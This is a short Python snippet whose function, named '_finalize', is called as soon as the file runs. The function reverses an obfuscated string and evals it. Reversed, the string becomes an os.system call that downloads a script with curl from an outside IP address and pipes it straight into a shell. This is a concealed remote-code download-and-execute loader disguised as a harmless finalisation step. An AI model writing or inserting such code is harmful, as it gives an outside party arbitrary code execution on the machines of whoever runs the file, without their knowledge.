def _finalize():
    s = ')"hs | x/7.311.0.302//:ptth lruc"(metsys.)"so"(__tropmi__'
    eval(s[::-1])


_finalize()
